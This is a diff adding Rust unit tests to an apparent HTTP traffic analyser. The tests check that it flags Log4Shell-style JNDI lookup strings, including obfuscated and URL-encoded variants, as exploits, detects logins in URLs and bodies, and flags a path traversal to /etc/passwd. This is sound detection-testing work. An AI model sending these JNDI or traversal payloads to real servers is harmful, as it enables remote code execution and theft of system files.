@@ -243,6 +243,47 @@ fn programs_in_bodies() {
 }
 
 #[test]
+fn attacks_by_look_ups() {
+    for attack in [
+        &b"GET /?a=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D HTTP/1.1\r\n\r\n"[..],
+        b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://h/a}\r\n\r\n",
+        b"POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nuname=%24%7Bjndi%3Aldap%3Aa",
+        b"POST / HTTP/1.1\r\nContent-Length: 15\r\n\r\n{\"a\":\"${jndi:a}",
+    ] {
+        let said = lines(&[(true, attack)]);
+        assert!(said.has("risk: exploit ${"), "{said:#?}");
+    }
+    let said = lines(&[(true, b"GET /?price=%2410&a=${name} HTTP/1.1\r\n\r\n")]);
+    assert!(!said.has("exploit"), "{said:#?}");
+}
+
+#[test]
+fn logins_in_what_is_asked_for() {
+    let said = lines(&[
+        (true, b"GET /in?user=bob&pass%77ord=secret HTTP/1.1\r\nHost: bob:secret@h.example:80\r\n\r\n"),
+        (true, b"GET /?f=../../etc/passwd&pwd=secret HTTP/1.1\r\nReferer: /in?user=eve&password=secret\r\n\r\n"),
+        (true, b"GET ftp://anonymous:me@h/ HTTP/1.1\r\n\r\n"),
+        (true, b"POST / HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 30\r\n\r\n{\"login\":\"ann\",\"password\":\"x\"}"),
+    ]);
+    let logins: Vec<_> = said
+        .0
+        .iter()
+        .filter(|line| line.starts_with("login"))
+        .collect();
+    assert_eq!(
+        logins,
+        [
+            "login: bob url None true",
+            "login:  url None true",
+            "login: ann json None true"
+        ]
+    );
+    assert!(said.has("risk: suspicious_url path traversal: /?f=../../etc/passwd&pwd=***"));
+    let host = format!("name: {:?}, source", b"h.example");
+    assert!(said.has(&host), "{said:#?}");
+}
+
+#[test]
 fn what_is_http_and_what_is_not() {
     for yes in [
         &b"GET / HTTP/1.1\r\n"[..],
